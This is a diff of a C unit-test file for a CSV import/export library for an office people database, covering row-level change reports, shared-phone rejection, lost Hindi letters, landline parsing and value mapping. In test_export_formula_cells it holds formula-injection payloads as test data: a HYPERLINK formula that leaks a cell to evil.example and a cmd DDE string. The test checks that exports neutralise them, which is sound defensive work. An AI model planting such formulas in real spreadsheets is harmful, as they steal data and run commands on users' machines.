@@ -12,7 +12,7 @@
 #include <cmocka.h>
 #include <sqlite3.h>
 
-#include "zila/csvio.h"
+#include "zila/office/csvio.h"
 
 extern const char zila_default_schema_sql[];
 
@@ -21,14 +21,36 @@ extern const char zila_default_schema_sql[];
 struct rejects {
 	size_t n;
 	uint64_t line[MAXREJ];
+	uint64_t row[MAXREJ];
 	char reason[MAXREJ][512];
+	size_t nchanges;
+	char changes[MAXREJ][512]; /* "row N new|ID: col old>new ..." from the change callback */
 };
+
+static void on_change(void *ctx, const struct zila_csv_change *ch)
+{
+	struct rejects *r = ctx;
+	if (r->nchanges >= MAXREJ) {
+		r->nchanges++;
+		return;
+	}
+	char *b = r->changes[r->nchanges++];
+	size_t cap = sizeof(r->changes[0]);
+	int n = snprintf(b, cap, "row %llu %s %s:", (unsigned long long)ch->row,
+			 ch->created ? "new" : ch->id, ch->name ? ch->name : "-");
+	for (size_t i = 0; i < ch->ncols && n > 0 && (size_t)n < cap; i++) {
+		const char *o = ch->created ? "" : ch->old_values[i] ? ch->old_values[i] : "NULL";
+		const char *v = ch->new_values[i] ? ch->new_values[i] : "NULL";
+		n += snprintf(b + n, cap - (size_t)n, " %s %s>%s", ch->columns[i], o, v);
+	}
+}
 
 static void on_reject(void *ctx, const struct zila_csv_reject *rj)
 {
 	struct rejects *r = ctx;
 	if (r->n < MAXREJ) {
 		r->line[r->n] = rj->line;
+		r->row[r->n] = rj->row;
 		snprintf(r->reason[r->n], sizeof(r->reason[r->n]), "%s", rj->reason);
 	}
 	r->n++;
@@ -170,6 +192,7 @@ static void test_embedded_newlines(void **state)
 	assert_int_equal(import_s(db, "people", csv, &st, &rj), ZILA_EFORMAT);
 	assert_int_equal(rj.n, 1);
 	assert_int_equal(rj.line[0], 7);
+	assert_int_equal(rj.row[0], 4); /* #16: the spreadsheet's row: header, Ravi, Gita, Bad */
 	assert_non_null(strstr(rj.reason[0], "malformed phone '12345'"));
 	assert_int_equal(count(db, "SELECT count(*) FROM people"), 0);
 
@@ -184,6 +207,11 @@ static void test_embedded_newlines(void **state)
 	s = text(db, "SELECT name || '|' || address FROM people WHERE phone = '9000000002'");
 	assert_string_equal(s, "Gita \"Didi\"|line\r\nbreak");
 	free(s);
+	/* a blank row is a row of the spreadsheet too */
+	assert_int_equal(import_s(db, "people", "name,phone,district_id\r\n\r\nBad,123,Patna\r\n",
+				  &st, &rj),
+			 ZILA_EFORMAT);
+	assert_int_equal(rj.row[0], 3);
 	sqlite3_close(db);
 }
 
@@ -254,20 +282,20 @@ static void test_reimport_and_update(void **state)
 				      "CREATE TEMP TABLE fired (col TEXT);"
 				      "CREATE TEMP TRIGGER ph AFTER UPDATE OF phone ON people BEGIN "
 				      "INSERT INTO fired VALUES ('phone'); END;"
-				      "CREATE TEMP TRIGGER nm AFTER UPDATE OF name ON people BEGIN "
-				      "INSERT INTO fired VALUES ('name'); END;",
+				      "CREATE TEMP TRIGGER by AFTER UPDATE OF birth_year ON people BEGIN "
+				      "INSERT INTO fired VALUES ('birth_year'); END;",
 				      NULL, NULL, NULL),
 			 SQLITE_OK);
 	const char *csv2 = "name,phone,district_id,birth_year\n"
 			   "A,9000000001,Patna,1990\n"
-			   "Bee,9000000002,Patna,1991\n"
+			   "B,9000000002,Patna,1992\n"
 			   "C,9000000003,Gaya,\n"
 			   "D,9000000004,Gaya,\n";
 	assert_int_equal(import_s(db, "people", csv2, &st, &rj), 0);
 	assert_int_equal(st.ncreated, 1);
 	assert_int_equal(st.nupdated, 1);
 	assert_int_equal(st.nunchanged, 2);
-	assert_int_equal(count(db, "SELECT count(*) FROM fired WHERE col = 'name'"), 1);
+	assert_int_equal(count(db, "SELECT count(*) FROM fired WHERE col = 'birth_year'"), 1);
 	assert_int_equal(count(db, "SELECT count(*) FROM fired WHERE col = 'phone'"), 0);
 
 	/* export -> import changes nothing (ids match), and the export is Excel-ready */
@@ -305,14 +333,26 @@ static void test_dry_run_counts(void **state)
 						"B,9000000002,Patna\n",
 				  &st, &rj),
 			 0);
-	const char *csv = "name,phone,district_id\n"
-			  "A,9000000001,Patna\n"     /* unchanged */
-			  "B2,9000000002,Patna\n"    /* updated */
-			  "C,9000000003,Patna\n"     /* created */
-			  "D,9000000004,Nowhere\n"   /* rejected */
-			  "C again,9000000003,Patna\n"; /* matches the row created above */
-	struct zila_csv_import_opts o = { .table = "people", .dry_run = true };
+	const char *csv = "name,phone,district_id,address\n"
+			  "A,9000000001,Patna,\n"        /* unchanged */
+			  "B,9000000002,Patna,Ward 2\n"  /* updated */
+			  "C,9000000003,Patna,\n"        /* created */
+			  "D,9000000004,Nowhere,\n"      /* rejected */
+			  "C,9000000003,Patna,Ward 3\n"; /* matches the row created above */
+	struct zila_csv_import_opts o = { .table = "people", .dry_run = true,
+					  .on_change = on_change };
 	assert_int_equal(import(db, &o, csv, strlen(csv), 3, &st, &rj), 0);
+	/* #16: row by row, what would be created and what would change (old > new) */
+	char *bid = text(db, "SELECT id FROM people WHERE name = 'B'");
+	char want[256];
+	assert_int_equal(rj.nchanges, 3);
+	snprintf(want, sizeof(want), "row 3 %s B: address NULL>Ward 2", bid);
+	assert_string_equal(rj.changes[0], want);
+	assert_string_equal(rj.changes[1], "row 4 new C: district_id >d-patna name >C phone "
+					   ">9000000003");
+	assert_memory_equal(rj.changes[2], "row 6 ", 6);
+	assert_non_null(strstr(rj.changes[2], " C: address NULL>Ward 3"));
+	free(bid);
 	assert_int_equal(st.nrows, 5);
 	assert_int_equal(st.nunchanged, 1);
 	assert_int_equal(st.nupdated, 2);
@@ -472,6 +512,329 @@ static void test_export_json_and_district(void **state)
 	sqlite3_close(db);
 }
 
+/* Calls fn on every cell of a CSV text (quotes removed, "" as "), in order. */
+static void each_cell(const char *p, size_t n, void (*fn)(const char *cell, size_t len, void *ctx),
+		      void *ctx)
+{
+	char *cell = malloc(n + 1);
+	assert_non_null(cell);
+	size_t i = 0;
+	if (n >= 3 && memcmp(p, "\xef\xbb\xbf", 3) == 0)
+		i = 3;
+	while (i < n) {
+		size_t k = 0;
+		if (p[i] == '"') {
+			for (i++; i < n; i++) {
+				if (p[i] == '"' && i + 1 < n && p[i + 1] == '"')
+					cell[k++] = p[i++];
+				else if (p[i] == '"')
+					break;
+				else
+					cell[k++] = p[i];
+			}
+			i++;
+		} else {
+			for (; i < n && p[i] != ',' && p[i] != '\r'; i++)
+				cell[k++] = p[i];
+		}
+		cell[k] = '\0';
+		fn(cell, k, ctx);
+		if (i < n && p[i] == ',')
+			i++;
+		else if (i + 1 < n && p[i] == '\r' && p[i + 1] == '\n')
+			i += 2;
+		else
+			assert_true(i >= n);
+	}
+	free(cell);
+}
+
+/* A cell a spreadsheet would run: = + - @ TAB or CR first, except the plain numbers of the
+ * test's rows. */
+static void no_formula(const char *cell, size_t len, void *ctx)
+{
+	size_t *ncells = ctx;
+	(*ncells)++;
+	if (strcmp(cell, "-5") == 0 || strcmp(cell, "-1.5") == 0 || strcmp(cell, "-12") == 0)
+		return;
+	if (len > 0 && strchr("=+-@\t\r", cell[0]) != NULL)
+		fail_msg("the export has a cell a spreadsheet would run: '%s'", cell);
+}
+
+/* #15 item 11: export neutralises what a spreadsheet would take for a formula (a ' before
+ * it, as OWASP recommends), and the re-import of the export takes the ' off again. */
+static void test_export_formula_cells(void **state)
+{
+	(void)state;
+	static const char *const texts[] = {
+		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+		"+91 98765 43210",
+		"-2+3+cmd|' /C calc'!A0",
+		"@SUM(A1:A9)",
+		"\tTab first",
+		"\rCR first",
+		"'=quoted by the writer",
+		"''+two quotes",
+		"-",
+		"-12",
+		"'",
+		"plain",
+		"=1,\"2\"\n=3",
+	};
+	const char *schema = "CREATE TABLE notes (id TEXT PRIMARY KEY NOT NULL, n INTEGER, "
+			     "r REAL, t TEXT);";
+	sqlite3 *db = new_db(), *db2 = new_db();
+	assert_int_equal(sqlite3_exec(db, schema, NULL, NULL, NULL), SQLITE_OK);
+	assert_int_equal(sqlite3_exec(db2, schema, NULL, NULL, NULL), SQLITE_OK);
+	size_t ntexts = sizeof(texts) / sizeof(texts[0]);
+	sqlite3_stmt *ins;
+	assert_int_equal(sqlite3_prepare_v2(db, "INSERT INTO notes VALUES (?1, -5, -1.5, ?2)", -1,
+					    &ins, NULL),
+			 SQLITE_OK);
+	for (size_t i = 0; i < ntexts; i++) {
+		char id[16];
+		snprintf(id, sizeof(id), "n%02zu", i);
+		sqlite3_bind_text(ins, 1, id, -1, SQLITE_TRANSIENT);
+		sqlite3_bind_text(ins, 2, texts[i], -1, SQLITE_STATIC);
+		assert_int_equal(sqlite3_step(ins), SQLITE_DONE);
+		sqlite3_reset(ins);
+	}
+	sqlite3_finalize(ins);
+
+	size_t len, ncells = 0;
+	char *out = export(db, "notes", ZILA_EXPORT_CSV, &len);
+	each_cell(out, len, no_formula, &ncells);
+	assert_int_equal(ncells, 4 * (ntexts + 1));
+	assert_non_null(strstr(out, "'=HYPERLINK("));
+	assert_non_null(strstr(out, "''=quoted by the writer"));
+
+	/* the re-import changes nothing, and into an empty replica gives the same values */
+	struct zila_csv_stats st;
+	struct rejects rj;
+	struct zila_csv_import_opts o = { .table = "notes" };
+	assert_int_equal(import(db, &o, out, len, 5, &st, &rj), 0);
+	assert_int_equal(st.nunchanged, ntexts);
+	assert_int_equal(st.ncreated + st.nupdated + st.nrejected, 0);
+	assert_int_equal(import(db2, &o, out, len, 4096, &st, &rj), 0);
+	assert_int_equal(st.ncreated, ntexts);
+	for (size_t i = 0; i < ntexts; i++) {
+		char sql[96];
+		snprintf(sql, sizeof(sql), "SELECT t || '|' || n || '|' || r FROM notes WHERE id = 'n%02zu'", i);
+		char *got = text(db2, sql), want[128];
+		snprintf(want, sizeof(want), "%s|-5|-1.5", texts[i]);
+		assert_string_equal(got, want);
+		free(got);
+	}
+	size_t len2;
+	char *out2 = export(db2, "notes", ZILA_EXPORT_CSV, &len2);
+	assert_int_equal(len, len2);
+	assert_memory_equal(out, out2, len);
+
+	/* the rows import writes back (a rejects file) are neutralised the same way */
+	char *row = NULL;
+	size_t row_len = 0;
+	FILE *m = open_memstream(&row, &row_len);
+	assert_non_null(m);
+	const char *f[] = { "=1+1", "@x", "-3" };
+	size_t fl[] = { 4, 2, 2 };
+	assert_int_equal(zila_csv_write_row(m, f, fl, 3), 0);
+	fclose(m);
+	assert_string_equal(row, "'=1+1,'@x,-3\r\n");
+	free(row);
+	free(out);
+	free(out2);
+	sqlite3_close(db2);
+	sqlite3_close(db);
+}
+
+/* #16: matching on (district, phone) never turns one person into another: a family's
+ * shared phone, or a phone given twice in one file, is rejected for review; the same name
+ * written another way, or a row matched by its id, still updates. */
+static void test_shared_phone_is_not_a_merge(void **state)
+{
+	(void)state;
+	sqlite3 *db = new_db();
+	struct zila_csv_stats st;
+	struct rejects rj;
+	assert_int_equal(import_s(db, "people", "name,phone,district_id,address\n"
+						"Rakesh Yadav,9000000001,Patna,Ward 1\n",
+				  &st, &rj),
+			 0);
+	char *id = text(db, "SELECT id FROM people");
+	const char *csv = "name,phone,district_id,address\n"
+			  "Sunita Yadav,9000000001,Patna,Ward 9\n" /* his wife, the same phone */
+			  "rakesh  yadav,9000000001,Patna,Ward 2\n" /* him, written another way */
+			  "Meena,9000000002,Patna,\n"
+			  "Meera,9000000002,Patna,\n"; /* the phone again, in one file */
+	struct zila_csv_import_opts o = { .table = "people", .skip_bad = true };
+	assert_int_equal(import(db, &o, csv, strlen(csv), 11, &st, &rj), 0);
+	assert_int_equal(st.nrejected, 2);
+	assert_int_equal(st.nupdated, 1);
+	assert_int_equal(st.ncreated, 1);
+	assert_int_equal(rj.line[0], 2);
+	char want[512];
+	snprintf(want, sizeof(want),
+		 "phone 9000000001 is already Rakesh Yadav's (id %s), and this row names 'Sunita "
+		 "Yadav': two people are not merged (for a shared phone, leave this person's empty "
+		 "or give their own; to rename Rakesh Yadav, give the id)",
+		 id);
+	assert_string_equal(rj.reason[0], want);
+	assert_int_equal(rj.line[1], 5);
+	assert_non_null(strstr(rj.reason[1], "already Meena's"));
+	/* nobody was overwritten: the name stays, the address is his second row's */
+	char *got = text(db, "SELECT name || '|' || address FROM people WHERE phone = '9000000001'");
+	assert_string_equal(got, "rakesh  yadav|Ward 2");
+	free(got);
+	assert_int_equal(count(db, "SELECT count(*) FROM people WHERE name = 'Meena'"), 1);
+	assert_int_equal(count(db, "SELECT count(*) FROM people WHERE name = 'Meera'"), 0);
+
+	/* a rename by id is what the user asked for */
+	char csv2[256];
+	snprintf(csv2, sizeof(csv2), "id,name\n%s,Rakesh Kumar Yadav\n", id);
+	assert_int_equal(import_s(db, "people", csv2, &st, &rj), 0);
+	assert_int_equal(st.nupdated, 1);
+	free(id);
+	sqlite3_close(db);
+}
+
+/* #16: an export saved back by Excel as "CSV (Comma delimited)" has ? for every Hindi letter;
+ * its re-import is refused, with what to do. */
+static void test_lost_letters_refused(void **state)
+{
+	(void)state;
+	sqlite3 *db = new_db();
+	struct zila_csv_stats st;
+	struct rejects rj;
+	assert_int_equal(import_s(db, "people", "name,name_local,phone,district_id\n"
+						"Meenakshi,मीनाक्षी देवी,9000000001,Patna\n"
+						"Q Ahmed,Who? Me?,9000000002,Patna\n",
+				  &st, &rj),
+			 0);
+	char *id = text(db, "SELECT id FROM people WHERE name = 'Meenakshi'");
+	char csv[512];
+	snprintf(csv, sizeof(csv),
+		 "id,name,name_local,phone,district_id\n"
+		 "%s,Meenakshi,??????? ???,9000000001,d-patna\n", id);
+	assert_int_equal(import_s(db, "people", csv, &st, &rj), ZILA_EFORMAT);
+	assert_int_equal(st.nrejected, 1);
+	assert_string_equal(rj.reason[0],
+			    "column name_local lost its letters: '??????? ??" "?' where the replica "
+			    "has 'मीनाक्षी देवी' (Excel's 'CSV (Comma delimited)' turns Hindi into ?; "
+			    "save the file as 'CSV UTF-8' and import that)");
+	char *got = text(db, "SELECT name_local FROM people WHERE name = 'Meenakshi'");
+	assert_string_equal(got, "मीनाक्षी देवी");
+	free(got);
+	/* a new row of ? alone is refused too; a ? in ordinary text is not */
+	assert_int_equal(import_s(db, "people", "name,name_local,phone,district_id\n"
+						"New One,????? ????,9000000003,Patna\n"
+						"Q Ahmed,Who? Me? Yes,9000000002,Patna\n",
+				  &st, &rj),
+			 ZILA_EFORMAT);
+	assert_int_equal(st.nrejected, 1);
+	assert_int_equal(rj.line[0], 2);
+	assert_non_null(strstr(rj.reason[0], "the file lost its letters"));
+	/* a name in Hindi matched by phone: the lost letters are the reason, not another person */
+	assert_int_equal(import_s(db, "people", "name,phone,district_id\n"
+						"राकेश,9000000004,Patna\n",
+				  &st, &rj),
+			 0);
+	assert_int_equal(import_s(db, "people", "name,phone,district_id\n"
+						"?????,9000000004,Patna\n",
+				  &st, &rj),
+			 ZILA_EFORMAT);
+	assert_memory_equal(rj.reason[0], "column name lost its letters: '????" "?' where", 43);
+	free(id);
+	sqlite3_close(db);
+}
+
+/* #16: a landline typed with its STD code stays a landline (0612-2234567), never a mobile
+ * number made of its digits; mobiles are read as before. */
+static void test_landline_stays_a_landline(void **state)
+{
+	(void)state;
+	sqlite3 *db = new_db();
+	struct zila_csv_stats st;
+	struct rejects rj;
+	const char *csv = "name,phone,district_id\n"
+			  "L1,0612-2234567,Patna\n"
+			  "L2,011 2345 6789,Gaya\n"
+			  "L3,+91 612 2234567,Gaya\n"
+			  "L4,(0651) 2234567,Patna\n"
+			  "M1,098765-43210,Patna\n"
+			  "M2,+91 91234 00001,Patna\n";
+	assert_int_equal(import_s(db, "people", csv, &st, &rj), 0);
+	assert_int_equal(st.ncreated, 6);
+	char *got = text(db, "SELECT group_concat(name || '=' || phone, ' ') FROM "
+			     "(SELECT name, phone FROM people ORDER BY name)");
+	assert_string_equal(got, "L1=0612-2234567 L2=011-23456789 L3=0612-2234567 "
+				 "L4=0651-2234567 M1=9876543210 M2=9123400001");
+	free(got);
+	/* the same landline typed another way is the same row */
+	assert_int_equal(import_s(db, "people", "name,phone,district_id\nL1,0612 2234567,Patna\n",
+				  &st, &rj),
+			 0);
+	assert_int_equal(st.nunchanged, 1);
+	/* a landline one digit short is not made into anything */
+	assert_int_equal(import_s(db, "people", "name,phone,district_id\nL5,0612-223456,Patna\n",
+				  &st, &rj),
+			 ZILA_EFORMAT);
+	assert_non_null(strstr(rj.reason[0], "malformed phone '0612-223456'"));
+	sqlite3_close(db);
+}
+
+/* #16: what office staff write becomes what the schema wants: F/M/महिला as female or male,
+ * a district laptop's own district for a file that names none (matched on (district,
+ * phone) as if the file named it), and a CHECK failure said as the value and the column. */
+static void test_office_values(void **state)
+{
+	(void)state;
+	sqlite3 *db = new_db();
+	struct zila_csv_stats st;
+	struct rejects rj;
+	const char *csv = "name,phone,gender\n"
+			  "Asha,9000000001,F\n"
+			  "Ravi,9000000002,m\n"
+			  "Kamla,9000000003,महिला\n"
+			  "Mohan,9000000004,पुरुष\n"
+			  "Chand,9000000005,Other\n";
+	struct zila_csv_import_opts o = { .table = "people", .own_district = "d-gaya" };
+	assert_int_equal(import(db, &o, csv, strlen(csv), 9, &st, &rj), 0);
+	assert_int_equal(st.ncreated, 5);
+	char *got = text(db, "SELECT group_concat(name || '=' || gender || '@' || district_id, ' ') "
+			     "FROM (SELECT * FROM people ORDER BY phone)");
+	assert_string_equal(got, "Asha=female@d-gaya Ravi=male@d-gaya Kamla=female@d-gaya "
+				 "Mohan=male@d-gaya Chand=other@d-gaya");
+	free(got);
+	/* the same file again matches the same rows */
+	assert_int_equal(import(db, &o, csv, strlen(csv), 9, &st, &rj), 0);
+	assert_int_equal(st.nunchanged, 5);
+	/* without a district of its own (HQ), a file with none is refused as before */
+	assert_int_equal(import_s(db, "people", "name,phone\nNew,9000000009\n", &st, &rj),
+			 ZILA_EFORMAT);
+	assert_string_equal(rj.reason[0], "missing required column 'district_id'");
+
+	/* a value the table's CHECK refuses: the value and the column, in words */
+	assert_int_equal(import_s(db, "people", "name,phone,district_id,gender,birth_year\n"
+						"Old,9000000006,Patna,f,1850\n"
+						"Odd,9000000007,Patna,x,1980\n",
+				  &st, &rj),
+			 ZILA_EFORMAT);
+	assert_int_equal(st.nrejected, 2);
+	assert_string_equal(rj.reason[0], "'1850' is not allowed in column birth_year (the table "
+					  "wants: birth_year BETWEEN 1900 AND 2100)");
+	assert_string_equal(rj.reason[1], "'x' is not allowed in column gender (the table wants: "
+					  "gender = 'female' OR gender = 'male' OR gender = "
+					  "'other')");
+	/* a new row (its own id) with a phone another member of the district holds */
+	assert_int_equal(import_s(db, "people", "id,name,phone,district_id\n"
+						"x1,Other Asha,9000000001,Gaya\n",
+				  &st, &rj),
+			 ZILA_EFORMAT);
+	assert_string_equal(rj.reason[0], "phone '9000000001' already belongs to another row of "
+					  "table 'people' (UNIQUE: two rows cannot share it)");
+	sqlite3_close(db);
+}
+
 static void test_encodings_and_limits(void **state)
 {
 	(void)state;
@@ -517,6 +880,11 @@ int main(void)
 		cmocka_unit_test(test_self_reference_parents_first),
 		cmocka_unit_test(test_export_json_and_district),
 		cmocka_unit_test(test_encodings_and_limits),
+		cmocka_unit_test(test_export_formula_cells),
+		cmocka_unit_test(test_shared_phone_is_not_a_merge),
+		cmocka_unit_test(test_lost_letters_refused),
+		cmocka_unit_test(test_landline_stays_a_landline),
+		cmocka_unit_test(test_office_values),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
